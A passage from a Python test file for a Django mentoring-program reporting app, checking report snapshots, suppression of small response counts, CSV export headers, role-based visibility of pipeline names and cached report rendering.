    assert list(ReportSnapshot.objects.order_by("pk")) == [snapshots[-1], late]  # +10 stays 5 minutes
    # A page that began reading +10 still reads +10's figures beside the newer ones.
    assert (goals(snapshots[-1]), goals(late)) == (4 + 3, 4 + 2)
    # The rows only the snapshots dropped could see went with them.
    assert not ReportDay.objects.filter(until__lte=snapshots[-1].pk).exists()
    # A run on a clock behind (another machine's) finds nothing changed: the newest stays the newest.
    with time_machine.travel(NOW + timedelta(minutes=11), tick=False):
        assert reports.take_snapshot() == late
    with time_machine.travel(NOW + timedelta(minutes=13), tick=False):
        assert reports.latest_snapshot() == late
        assert as_dict(figures(west)[west["p1"].pk])["goals"] == 4 + 2
    # Every row of a snapshot is one (day, program, association): nothing counted twice.
    for snapshot in (snapshots[-1], late):
        rows = ReportDay.objects.of(snapshot).values_list("day", "program", "association")
        assert len(rows) == len(set(rows))


# --- Secondary suppression --------------------------------------------------------------------


def shown(responses, asked=None):
    """Figures as all_figures leaves them with k = 5."""
    asked = responses if asked is None else asked
    return reports.Figures(
        responses=responses,
        satisfaction=4.0 if responses >= 5 else None,
        distribution={4: responses} if responses >= 5 else {},
        asked=asked,
        response_rate=100.0 if asked >= 5 else None,
    )


@pytest.mark.parametrize(
    ("groups", "total", "still_shown"),
    [
        ([20, 3, 10], 33, [True, False, False]),  # 3 hidden: the smallest shown (10) goes with it
        ([20, 10], 32, [True, False]),  # 2 answers in groups not listed: the same
        ([20, 10], 30, [True, True]),  # nothing hidden
        ([20, 10, 3, 4], 37, [True, True, False, False]),  # 7 hidden already: enough
        ([6, 6, 6], 20, [False, True, True]),  # 2 unlisted: one group of 6 goes
        ([2, 2], 4, [False, False]),  # the total itself is too small
    ],
)
def test_a_hidden_group_is_never_the_total_minus_what_is_shown(groups, total, still_shown):
    figures_ = [shown(n) for n in groups]
    reports.suppress_complements(figures_, shown(total), 5)
    assert [f.satisfaction is not None for f in figures_] == still_shown
    assert [f.response_rate is not None for f in figures_] == still_shown
    assert all(f.distribution == {} for f, keep in zip(figures_, still_shown, strict=True) if not keep)
    # Whatever is hidden adds up to none, or to k or more.
    hidden = total - sum(n for n, keep in zip(groups, still_shown, strict=True) if keep)
    assert hidden == 0 or hidden >= 5 or not any(still_shown)


def test_the_response_rate_follows_the_asks_not_the_answers():
    groups = [shown(10, asked=20), shown(10, asked=3)]
    reports.suppress_complements(groups, shown(20, asked=23), 5)
    assert [f.satisfaction for f in groups] == [4.0, 4.0]  # 0 answers hidden
    assert [f.response_rate for f in groups] == [None, None]  # 3 asks hidden: the 20 go too


def test_a_month_hidden_is_never_the_period_minus_the_months_shown():
    months = [{"responses": n, "satisfaction": 4.0 if n >= 5 else None} for n in (3, 10, 12)]
    reports.suppress_months(months, shown(25), 5)
    assert [m["satisfaction"] for m in months] == [None, None, 4.0]


def test_nothing_to_measure_shows_a_dash_and_a_hidden_figure_says_so(west, client):
    client.force_login(west["chair"])
    quiet = {"start": "2024-01-01", "end": "2024-01-31"}  # no match, no answer in that month
    response = client.get(program_url(west), quiet)
    body = response.content.decode()
    row = body[body.index('<th scope="row">Westfield new members</th>') :].split("</tr>")[0]
    cells = re.findall(r'<td class="text-end">(.*?)</td>', row)
    columns = [key for key, _ in response.context["columns"]]
    assert cells[columns.index("median_days_to_match")] == "–"
    assert SUPPRESSED_TEXT in cells[columns.index("response_rate")]
    [_, csv_row] = export(client, program_url(west), "programs", quiet)
    assert csv_row[1 + columns.index("median_days_to_match")] == ""
    assert csv_row[1 + columns.index("satisfaction")] == SUPPRESSED_TEXT


def test_a_mentee_who_later_mentors_in_the_same_program_counts_once_for_its_retention(west):
    lead, l1 = west["lead"], west["users"]["l1"]  # l1 was mentored in the leadership program
    mentee = person("newer@west.example.org", west["weston"], "lapsed")
    l1_mentoring = apply(lead, l1, "mentor", "matched", local(2025, 3, 1))
    pair(apply(lead, mentee, "mentee", "matched", local(2025, 3, 1)), l1_mentoring, local(2025, 3, 5))
    reports.take_snapshot()
    # l1, lt1 and l2 renewed; the new mentee lapsed: 3 of 4 people, not 4 of 5.
    assert reports.program_retention([lead])[lead.pk] == 75.0


def test_every_csv_export_has_a_name_for_every_column(west, client):
    client.force_login(west["vp"])
    for table in ("programs", "associations", "trend", "funnel", "objectives", "closures", "satisfaction", "pipeline"):
        response = client.get(region_url(west), {**Q1_QUERY, "export": table})
        if response.status_code == 404:
            continue
        header = next(csv.reader(io.StringIO(response.text)))
        assert all(cell.strip() for cell in header), (table, header)


def test_staff_see_the_pipeline_counts_only_with_small_ones_hidden(west, client):
    client.force_login(User.objects.create_user("staff.west@example.org", is_staff=True))
    response = client.get(region_url(west), Q1_QUERY)
    assert response.context["pipeline_stages"][0] == ("Recommended (and agreed)", None)  # 1 < k
    body = response.content.decode()
    assert "Liam First" not in body and "export=pipeline" not in body
    assert "Names are for the region" in body
    assert "pipeline" not in client.get(region_url(west), Q1_QUERY | {"export": "pipeline"}).get(
        "Content-Disposition", ""
    )


def test_the_vp_sees_the_counts_per_stage_and_the_link_to_act(west, client):
    client.force_login(west["vp"])
    response = client.get(region_url(west), Q1_QUERY)
    assert dict(response.context["pipeline_stages"])["Matched"] == 1
    assert reverse("leadership_pipeline", args=[west["region"].pk]) in response.content.decode()


def drawn(page):
    """The report's figures on a page (reports/_sections.html), from the first to the pipeline."""
    return page[page.index('<span id="scroll-hint"') : page.index('aria-labelledby="h-pipeline"')]


def test_readers_share_the_drawn_figures_and_nothing_of_their_own(west, world, client, django_assert_max_num_queries):
    """The figures are drawn once per snapshot and period for every reader of the region's
    report; the pipeline's names, for its VP only, are never among them; a new threshold or a
    new snapshot draws them again."""
    url = region_url(west)
    client.force_login(west["vp"])
    vp = client.get(url, Q1_QUERY).content.decode()
    assert "Liam First" in vp  # the VP reads who is in the pipeline
    client.force_login(world["people"]["staff"])
    with django_assert_max_num_queries(9):  # the figures are not read again
        staff = client.get(url, Q1_QUERY).content.decode()
    assert "Liam First" not in staff and drawn(staff) == drawn(vp)
    assert "fewer than 5 feedback answers" in staff
    SiteSettings.objects.update_or_create(pk=1, defaults={"report_min_responses": 2})
    assert "fewer than 2 feedback answers" in client.get(url, Q1_QUERY).content.decode()
    other = client.get(url, {"start": "2025-01-01", "end": "2025-01-31"}).content.decode()
    assert "start=2025-01-01&amp;end=2025-01-31&amp;export=programs" in other  # the period asked, in its exports
    assert "end=2025-01-31" not in client.get(url, Q1_QUERY).content.decode()


def test_the_job_draws_each_report_for_its_first_reader(west, client):
    """After the job took the figures, the first reader of a report (the last twelve months) costs
    what the next readers do: the job drew it, in each language, as a reader's request would."""
    client.force_login(west["vp"])
    url = region_url(west)
    client.get(url)  # the first snapshot, taken by the page; the session and the site settings read
    with CaptureQueriesContext(connection) as next_reader:
        before = matched(client.get(url))
    pair(west["apps"]["w1"], west["apps"]["t1"], local(2025, 3, 15))
    with time_machine.travel(NOW + timedelta(minutes=10), tick=False):
        done = tasks.take_report_snapshot.apply().get()
        assert done["drawn"] == len(settings.LANGUAGES) * (Region.objects.count() + LocalAssociation.objects.count())
        with CaptureQueriesContext(connection) as first_reader:
            response = client.get(url)
        assert matched(response) == before + 1  # the new figures
        assert len(first_reader.captured_queries) == len(next_reader.captured_queries) <= 10
        # What the job drew is what the reader's own request draws.
        programs, associations = (
            list(reports.region_programs(west["region"])),
            list(reports.associations_of(west["region"])),
        )
        context = views._report(programs, reports.default_period(), associations=associations, retention=associations)
        assert str(response.context["sections"]) == render_to_string(
            "reports/_sections.html", context, response.wsgi_request
        )
        # The association's officer, in French, is drawn for too.
        officer = west["users"]["o1"]
        AssociationOfficer.objects.create(association=west["westfield"], user=officer, role="president")
        officer.language = "fr"
        officer.save(update_fields=["language"])
        client.force_login(officer)
        page = reverse("association_report", args=[west["westfield"].pk])
        client.get(page)  # the officer's session
        tasks.take_report_snapshot.apply().get()
        with CaptureQueriesContext(connection) as officer_reads:
            response = client.get(page)
        assert response.status_code == 200 and "Candidatures de personnes mentorées" in response.content.decode()
        assert not any("reports_reportcount" in q["sql"] for q in officer_reads.captured_queries)


def test_the_chairs_report_of_a_next_cycle_sets_it_beside_the_cycles_before(west, client):
    """ "Copy for the next cycle" links the cycles (Program.copied_from): the new cycle's report
    shows each cycle's figures over its whole life side by side, newest first; a first cycle's
    report has no such table."""
    client.force_login(west["chair"])
    assert "This cycle and the ones before" not in client.get(program_url(west), Q1_QUERY).content.decode()
    copy = copy_program(program=west["p1"], by=west["chair"], name="Westfield new members 2027")
    accept_pledge(seat=copy.committee.get(user=west["chair"]))
    reports.take_snapshot()
    response = client.get(reverse("committee:report", args=[copy.pk]), Q1_QUERY)
    assert [p.pk for p, _ in response.context["cycle_columns"]] == [copy.pk, west["p1"].pk]
    (new, old) = [f for _, f in response.context["cycle_columns"]]
    # Every partnership the old cycle made, not only the period's (4 in Q1).
    matched = Partnership.objects.filter(program=west["p1"]).count()
    assert (new.matched, old.matched) == (0, matched) and matched > 4
    body = response.content.decode()
    section = body[body.index("This cycle and the ones before") :].split("</section>")[0]
    assert "Westfield new members 2027" in section and f'<td class="text-end">{matched}</td>' in section
    assert "Ended early" in section and "Re-matched" not in section
